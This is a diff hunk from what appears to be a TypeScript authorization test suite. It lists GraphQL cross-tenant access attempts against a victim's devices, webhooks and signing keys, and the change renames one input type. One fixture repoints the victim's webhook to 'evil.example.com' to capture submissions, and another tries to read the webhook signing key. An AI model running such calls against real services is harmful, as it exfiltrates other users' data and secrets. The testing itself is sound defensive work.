@@ -53,7 +53,7 @@ const attempts: Array<[string, string, () => Record<string, unknown>]> = [
   ['updateDevice', `mutation($id: ID!) { updateDevice(id: $id, input: { name: "pwned" }) { id } }`, () => ({ id: victim.deviceId })],
   ['webhookEndpoints', `query($id: ID!) { webhookEndpoints(id: $id) { id } }`, () => ({ id: victim.webhookId })],
   ['webhookSigningKey', `query($id: ID!) { webhookSigningKey(id: $id) }`, () => ({ id: victim.endpointId })],
-  ['updateWebhook', `mutation($id: ID!, $i: SaveWebhooksInput!) { updateWebhook(id: $id, input: $i) { webhookId } }`, () => ({ id: victim.webhookId, i: { name: 'x', url: 'https://evil.example.com/', deviceIds: [victim.deviceId], events: ['SUBMISSION'] } })],
+  ['updateWebhook', `mutation($id: ID!, $i: UpdateWebhookInput!) { updateWebhook(id: $id, input: $i) { webhookId } }`, () => ({ id: victim.webhookId, i: { name: 'x', url: 'https://evil.example.com/', deviceIds: [victim.deviceId], events: ['SUBMISSION'] } })],
   ['deleteWebhook', `mutation($id: ID!) { deleteWebhook(id: $id) { deletedEndpointIds } }`, () => ({ id: victim.webhookId })],
   ['testTargets', `query($id: ID!) { testTargets(webhookId: $id) { id } }`, () => ({ id: victim.webhookId })],
   ['testTarget', `query($id: ID!) { testTarget(id: $id) { payloadPreview } }`, () => ({ id: victim.targetId })],
